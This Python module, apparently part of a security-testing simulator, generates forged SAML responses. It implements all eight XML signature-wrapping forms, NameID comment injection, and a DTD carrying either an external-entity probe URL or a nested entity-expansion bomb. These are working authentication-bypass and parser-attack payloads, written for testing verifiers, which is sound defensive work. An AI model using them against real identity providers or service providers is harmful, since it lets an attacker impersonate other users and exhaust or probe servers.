"""Documents that look signed and are not: signature wrapping in eight forms, a comment in a name, a DTD.

Source: J. Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), with the numbers
XSW1 to XSW8 that the tool SAML Raider gave its attacks. The signature of each still holds for the element it refers to;
what a careless reader finds first is the other one, in which the victim signs on.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Final

from lxml import etree

from simulator.neighbours.saml.xml import DS, NS, SAML, SAMLP, Element

EVIL_RESPONSE, EVIL_ASSERTION = "_wrapping_response", "_wrapping_assertion"
Marked = Callable[[Element], None]  # makes an element the victim's


def wrapped(root: Element, form: str, victim: str) -> Element:
    """A signed response, wrapped in that form so that the victim signs on."""

    def marked(element: Element) -> None:
        for name in element.iter(f"{{{SAML}}}NameID"):
            name.text = victim
        for value in element.iterfind(".//saml:Attribute[@Name='email']/saml:AttributeValue", dict(NS)):
            value.text = victim

    return FORMS[form](root, marked)


def _signature(element: Element) -> Element:
    found = element.find("ds:Signature", dict(NS))
    if found is None:
        raise TypeError("only what is signed can be wrapped")
    return found


def _assertion(root: Element) -> Element:
    found = root.find("saml:Assertion", dict(NS))
    if found is None:
        raise TypeError("there is no assertion")
    return found


def _bare(element: Element) -> Element:
    """A copy without its signature."""
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def _xsw1(root: Element, marked: Marked) -> Element:
    original = _bare(root)
    marked(root)
    root.set("ID", EVIL_RESPONSE)
    _signature(root).append(original)
    return root


def _xsw2(root: Element, marked: Marked) -> Element:
    original = _bare(root)
    marked(root)
    root.set("ID", EVIL_RESPONSE)
    _signature(root).addprevious(original)
    return root


def _xsw3(root: Element, marked: Marked) -> Element:
    evil = _evil(_bare(_assertion(root)), marked)
    _assertion(root).addprevious(evil)
    return root


def _xsw4(root: Element, marked: Marked) -> Element:
    original = _assertion(root)
    evil = _evil(_bare(original), marked)
    original.addprevious(evil)
    evil.append(original)
    return root


def _xsw5(root: Element, marked: Marked) -> Element:
    root.append(_bare(_assertion(root)))
    _evil(_assertion(root), marked)
    return root


def _xsw6(root: Element, marked: Marked) -> Element:
    original = _bare(_assertion(root))
    _signature(_evil(_assertion(root), marked)).append(original)
    return root


def _xsw7(root: Element, marked: Marked) -> Element:
    evil = _bare(_assertion(root))
    marked(evil)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil)
    _assertion(root).addprevious(extensions)
    return root


def _xsw8(root: Element, marked: Marked) -> Element:
    original = _bare(_assertion(root))
    holder = etree.SubElement(_signature(_evil(_assertion(root), marked)), f"{{{DS}}}Object")
    holder.append(original)
    return root


def _evil(assertion: Element, marked: Marked) -> Element:
    assertion.set("ID", EVIL_ASSERTION)
    marked(assertion)
    return assertion


FORMS: Final[dict[str, Callable[[Element, Marked], Element]]] = {
    "xsw1": _xsw1,
    "xsw2": _xsw2,
    "xsw3": _xsw3,
    "xsw4": _xsw4,
    "xsw5": _xsw5,
    "xsw6": _xsw6,
    "xsw7": _xsw7,
    "xsw8": _xsw8,
}


def commented(root: Element, victim: str) -> Element:
    """A comment after the victim's name within the NameID: canonical XML drops it, so the signature holds.

    Source: CERT/CC VU#475445 (2018).
    """
    for name in root.iter(f"{{{SAML}}}NameID"):
        whole = name.text or ""
        if whole.startswith(victim):
            comment = etree.Comment("")
            name.text, comment.tail = victim, whole[len(victim) :]
            name.append(comment)
    return root


def with_dtd(data: bytes, form: str, probe_url: str) -> bytes:
    """The document with a DTD, and a use of its entity in the status, which no signature covers."""
    if form == "external":
        entities = f'<!ENTITY probe SYSTEM "{probe_url}">'
    else:
        nested = "".join(f'<!ENTITY e{at + 1} "{f"&e{at};" * 10}">' for at in range(5))
        entities = f'<!ENTITY e0 "word ">{nested}<!ENTITY probe "&e5;">'
    message = b"<samlp:StatusMessage>&probe;</samlp:StatusMessage></samlp:Status>"
    return f"<!DOCTYPE samlp:Response [{entities}]>\n".encode() + data.replace(b"</samlp:Status>", message, 1)


def tampered(root: Element, how: str) -> Element:
    """A response whose signatures do not hold."""
    if how == "value":
        for value in root.iter(f"{{{DS}}}SignatureValue"):
            made = value.text or ""
            value.text = ("B" if made[:1] == "A" else "A") + made[1:]
        return root
    for value in root.iterfind(".//saml:Attribute[@Name='displayName']/saml:AttributeValue", dict(NS)):
        value.text = f"Not {value.text}"
    return root
